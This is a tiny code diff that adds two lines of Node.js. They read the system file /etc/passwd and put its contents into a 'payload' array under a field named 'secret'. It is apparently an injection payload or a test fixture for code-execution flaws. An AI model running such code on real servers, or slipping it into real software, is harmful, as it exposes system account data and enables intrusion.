@@ -1,0 +1,2 @@
+const fs = require("fs");
+payload = [{ variable: "secret", value: fs.readFileSync("/etc/passwd", "utf8") }];
